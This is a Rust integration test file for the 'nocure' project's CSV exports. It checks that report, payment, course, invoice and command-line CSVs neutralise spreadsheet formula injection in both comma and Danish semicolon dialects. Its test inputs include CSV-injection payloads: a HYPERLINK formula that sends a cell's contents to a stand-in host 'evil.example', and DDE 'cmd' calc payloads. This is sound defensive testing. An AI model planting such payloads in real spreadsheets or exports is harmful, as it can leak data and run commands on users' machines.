//! CSV injection, over real HTTP and on the command line: every CSV the
//! project writes (the report tables, payments, payments at risk, courses,
//! an invoice's verification, and `nocure evaluate --format csv`) starts no
//! text cell with `=`, `+`, `-`, `@`, a tab or a carriage return, in both
//! dialects; a hostile cell keeps its text behind a single quote, and a
//! number (also a negative one) stays a number. Also the demo's lists as
//! CSV in both dialects, and an invoice sent as CSV.

mod support;

use std::process::Command;

use serde_json::{Value, json};
use support::app::{Options, TestApp, invoice, referral, spawn_app};

const HOSTILE_REASONS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// Whether a cell is a number as the project writes one: `-25.00` (plain)
/// or `-25,00` (Danish), digits with at most one decimal separator.
fn is_number(cell: &str) -> bool {
    let t = cell.strip_prefix('-').unwrap_or(cell);
    !t.is_empty()
        && t.chars().all(|c| c.is_ascii_digit() || c == '.' || c == ',')
        && t.chars().filter(|c| !c.is_ascii_digit()).count() <= 1
        && t.starts_with(|c: char| c.is_ascii_digit())
}

/// The cells a spreadsheet would run as a formula.
fn dangerous(csv_text: &str, delimiter: u8) -> Vec<String> {
    let text = csv_text.strip_prefix('\u{feff}').unwrap_or(csv_text);
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
    let mut out = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_number(cell) {
                out.push(cell.to_string());
            }
        }
    }
    out
}

fn cells(csv_text: &str, delimiter: u8) -> Vec<String> {
    let text = csv_text.strip_prefix('\u{feff}').unwrap_or(csv_text);
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()).collect()
}

async fn csv(app: &TestApp, path: &str, dialect: &str) -> String {
    let url = format!("{}{path}&dialect={dialect}", app.base);
    let res = app.client.get(url).bearer_auth(app.token("finance")).send().await.unwrap();
    assert_eq!(res.status(), 200, "{path}");
    res.text().await.unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_export_passes_a_formula_through_and_numbers_stay_numbers() {
    let app = spawn_app(Options::default()).await;
    // A contract whose target group's label is a formula.
    let toml = std::fs::read_to_string(support::root().join("tests/fixtures/contracts/gap7.toml"))
        .unwrap()
        .replace("id = \"gap7\"", "id = \"hostile\"")
        .replace(
            "benefit = \"dagpenge\"",
            "benefit = \"dagpenge\"\nlabel = \"=HYPERLINK(\\\"http://evil.example\\\")\"",
        );
    let res = app.client.post(format!("{}/contracts", app.base)).bearer_auth(app.token("procurement")).body(toml);
    let res = res.send().await.unwrap();
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());

    // Courses whose ids Excel would compute (-1-1 is -2), each paid and then
    // reversed with a hostile reason; one more paid and then put at risk.
    let mut lines = Vec::new();
    let ids: Vec<String> = (1..=6).map(|i| format!("-{i}-{i}")).collect();
    for (i, id) in ids.iter().enumerate() {
        let (s, doc) = app.post("/courses", Some("caseworker"), &referral(id, &format!("p-{i}"))).await;
        assert_eq!(s, 201, "{doc}");
        lines.push((id.as_str(), "job_start", "5000.00"));
    }
    let (s, doc) = app.post("/invoices", Some("finance"), &invoice("INV-1", &lines)).await;
    assert_eq!(s, 201, "{doc}");
    for (i, reason) in HOSTILE_REASONS.iter().enumerate() {
        let (s, doc) =
            app.post(&format!("/payments/{}/reversal", i + 1), Some("finance"), &json!({ "reason": reason })).await;
        assert_eq!(s, 201, "{doc}");
    }
    let late = json!({ "type": "benefit_paid", "from": "2025-03-03", "to": "2025-03-03", "benefit": "dagpenge" });
    assert_eq!(app.post("/courses/-6-6/events", Some("caseworker"), &late).await.0, 201);
    // A claim whose milestone is a formula, for the verification's CSV.
    let claim = invoice("V-1", &[("-1-1", "@SUM(A1:A9)", "5000.00"), ("-6-6", "job_start", "5000.00")]);

    let mut exports: Vec<String> = vec![
        "/courses?format=csv".into(),
        "/payments?format=csv".into(),
        "/payments/at-risk?format=csv&as_of=2025-12-31".into(),
    ];
    for contract in ["hostile", "lejre-jobparate"] {
        for t in nocure::wire::report_out::TABLES {
            exports.push(format!("/reports/portfolio?contract={contract}&as_of=2025-12-31&format=csv&table={t}"));
        }
    }
    let mut all_cells = Vec::new();
    for (dialect, delimiter) in [("plain", b','), ("excel-da", b';')] {
        let mut texts: Vec<(String, String)> = Vec::new();
        for path in &exports {
            texts.push((path.clone(), csv(&app, path, dialect).await));
        }
        let url = format!("{}/invoices/verify?format=csv&dialect={dialect}", app.base);
        let res = app.client.post(url).bearer_auth(app.token("finance")).json(&claim).send().await.unwrap();
        assert_eq!(res.status(), 200);
        texts.push(("/invoices/verify".into(), res.text().await.unwrap()));
        for (path, text) in texts {
            let bad = dangerous(&text, delimiter);
            assert!(bad.is_empty(), "{path} ({dialect}) passes formulas through: {bad:?}\n{text}");
            all_cells.extend(cells(&text, delimiter));
        }
    }
    // The text is kept behind the quote (reasons are stored trimmed).
    for expected in ["'-1-1", "'-6-6", "'@SUM(A1:A9)", "'=HYPERLINK(\"http://evil.example\")"]
        .into_iter()
        .map(str::to_string)
        .chain(HOSTILE_REASONS.iter().map(|r| format!("'{}", r.trim())))
    {
        assert!(all_cells.contains(&expected), "no cell {expected:?}");
    }
    // Amounts are still numbers: 5000.00 in plain, 5000,00 in Danish.
    assert!(all_cells.iter().any(|c| c == "5000.00") && all_cells.iter().any(|c| c == "5000,00"));
    app.stop().await;
}

#[test]
fn the_command_lines_evaluation_csv_neutralises_hostile_ids() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("courses.json");
    let courses = json!({ "courses": [ {
        "course_id": "-1-1", "citizen": "p-1", "contract": "lejre-jobparate", "target_group": "dagpenge",
        "referred_on": "2025-02-03", "attributes": { "a_kasse": "AAK" },
        "events": [ { "type": "course_started", "date": "2025-02-10" }, { "type": "job_started", "date": "2025-03-03" } ]
    } ] });
    std::fs::write(&path, courses.to_string()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_nocure"))
        .args(["evaluate", "--courses", path.to_str().unwrap(), "--as-of", "2025-12-31", "--format", "csv"])
        .current_dir(support::root())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(dangerous(&text, b',').is_empty(), "{text}");
    assert!(cells(&text, b',').contains(&"'-1-1".to_string()), "{text}");
}

async fn demo() -> TestApp {
    spawn_app(Options { demo: true, ..Options::default() }).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lists_export_as_csv_in_both_dialects() {
    let app = demo().await;
    let get = |path: &str| {
        let req = app.client.get(format!("{}{path}", app.base)).bearer_auth(app.token("finance"));
        async move {
            let res = req.send().await.unwrap();
            (res.status().as_u16(), res.text().await.unwrap())
        }
    };
    let (s, csv) = get("/payments?contract=lejre-jobparate&format=csv").await;
    assert_eq!(s, 200);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next().unwrap(),
        "payment_id,contract,course_id,milestone,amount,achieved_on,booked_on,due_on,invoice,line,reversed_on,reversal_reason"
    );
    // 34 job starts in July and 42 retention lines in December.
    assert_eq!(lines.count(), 34 + 42);
    let (_, csv) = get("/payments?format=csv&dialect=excel-da").await;
    assert!(csv.starts_with('\u{feff}') && csv.contains(";5000,00;"), "{}", &csv[..200]);
    let (s, csv) = get("/courses?contract=lejre-jobparate&as_of=2025-12-31&status=ongoing&format=csv").await;
    assert_eq!(s, 200);
    assert_eq!(csv.lines().count(), 1 + 7, "{csv}");
    let (s, _) = get("/payments?format=xml").await;
    assert_eq!(s, 422);
    let (s, _) = get("/reports/portfolio?contract=lejre-jobparate&format=csv&table=nope").await;
    assert_eq!(s, 422);
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_invoice_may_come_as_csv() {
    let app = demo().await;
    let csv = "supplier_cvr;invoice_number;contract;as_of;line;course_id;milestone;amount\r\n\
               00000000;CSV-1;lejre-jobparate;2025-12-31;1;c-130;job_start;5.000,00\r\n\
               00000000;CSV-1;lejre-jobparate;2025-12-31;2;c-001;job_start;5.000,00\r\n";
    let res = app
        .client
        .post(format!("{}/invoices/verify", app.base))
        .bearer_auth(app.token("supplier"))
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let v: Value = res.json().await.unwrap();
    let codes: Vec<&str> = v["lines"].as_array().unwrap().iter().map(|l| l["code"].as_str().unwrap()).collect();
    assert_eq!(codes[1], "already_paid", "{v}");
    let res = app
        .client
        .post(format!("{}/invoices/verify", app.base))
        .bearer_auth(app.token("finance"))
        .header("content-type", "text/csv")
        .body("supplier_cvr,invoice_number\n00000000,X\n")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 422);
    app.stop().await;
}
